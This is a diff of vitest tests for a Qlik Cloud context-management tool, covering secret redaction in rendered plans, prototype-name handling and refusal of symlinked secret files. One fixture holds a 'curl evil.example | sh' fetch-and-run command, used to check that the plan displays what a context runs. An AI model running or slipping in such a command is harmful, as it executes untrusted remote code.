@@ -1,4 +1,4 @@
-import { existsSync, mkdirSync, readFileSync, statSync, writeFileSync } from "node:fs";
+import { existsSync, mkdirSync, readFileSync, statSync, symlinkSync, writeFileSync } from "node:fs";
 import { dirname, join } from "node:path";
 
 import { describe, expect, it } from "vitest";
@@ -6,7 +6,7 @@ import { describe, expect, it } from "vitest";
 import { applyPlan, isInsideGit, readContextsFile } from "../../src/contexts/apply.ts";
 import { planContexts, type Plan } from "../../src/contexts/plan.ts";
 import { renderPlan } from "../../src/contexts/render-plan.ts";
-import type { ContextsFile } from "../../src/contexts/schema.ts";
+import type { Context, ContextsFile } from "../../src/contexts/schema.ts";
 import { editStore, readStore } from "../../src/contexts/store.ts";
 import { caught } from "./caught.ts";
 import { useTempDir } from "./temp-dir.ts";
@@ -44,7 +44,17 @@ describe("the plan", () => {
   it("adds to an empty store", () => {
     expect(renderPlan(planContexts(storeOf({}), FILE))).toBe(
       `+ dev  https://dev.eu.qlikcloud.com  (OAuth client)
+    server: https://dev.eu.qlikcloud.com
+    headers.x-a: 1
+    oauth-client-id: \${ID}
+    oauth-client-secret: \${SECRET}
+    comment: Acme
 + prod  https://acme.eu.qlikcloud.com  (API key, read-only)
+    server: https://acme.eu.qlikcloud.com
+    headers.x-a: 1
+    api-key: { env: PROD }
+    comment: Live
+    read-only: true
 2 to add, 0 to change, 0 the same. Current context will be: dev.`,
     );
   });
@@ -85,6 +95,23 @@ describe("the plan", () => {
 0 to add, 2 to change, 0 the same.`,
     );
     expect(JSON.stringify(plan)).not.toContain("hunter22");
+  });
+
+  it("shows what an added context runs and sends, secrets hidden", () => {
+    const context: Context = {
+      server: "a.eu",
+      "api-key": { command: ["sh", "-c", "curl evil.example | sh", "a, b"] },
+      headers: { cookie: "hunter22hunter22", "x-secret": "${X}", constructor: "1" },
+      insecure: true,
+    };
+    const text = renderPlan(planContexts(storeOf({}), { contexts: { a: context } }));
+    expect(text).toContain(`    headers.cookie: [hidden]
+    headers.x-secret: \${X}
+    headers.constructor: 1
+    api-key: { command: [sh, -c, "curl evil.example | sh", "a, b"] }
+    insecure: true
+`);
+    expect(text).not.toContain("hunter22");
   });
 
   it("hides literals of the file too", () => {
@@ -191,6 +218,14 @@ current-context: prod
     expect([...readStore(path).contexts.keys()].sort()).toEqual(["dev", "other", "prod"]);
   });
 
+  it("takes names that every object has", async () => {
+    const path = newStore();
+    const names = ["constructor", "toString", "hasOwnProperty"];
+    const file = { contexts: Object.fromEntries(names.map((name) => [name, FILE.contexts.prod!])) };
+    expect(actions(await applyPlan(path, file))).toEqual(names.map((name) => `${name} add`));
+    expect(actions(await applyPlan(path, file))).toEqual(names.map((name) => `${name} same`));
+  });
+
   it("leaves contexts for qlik-cli as they are", async () => {
     const path = newStore();
     const win = { server: "https://qseow.example.com/jwt", "server-type": "windows" as const };
@@ -238,6 +273,15 @@ describe("reading a repository's file", () => {
     expect(error.message).toContain('api-key: "${DEV_API_KEY}"');
     expect(error.message + error.remedy).not.toContain("hunter22");
     expect(Object.keys(readContextsFile(write(text, false)).contexts)).toEqual(["dev"]);
+  });
+
+  it("refuses it also through a link from outside", async () => {
+    const inside = write("contexts:\n  dev: { server: a.eu, api-key: hunter22hunter22 }\n", true);
+    const link = join(tempDir(), "link.yaml");
+    symlinkSync(inside, link);
+    expect((await caught(() => readContextsFile(link))).message).toContain(
+      `${link}:2:33  contexts.dev.api-key`,
+    );
   });
 
   it("knows a linked work tree, where .git is a file", () => {
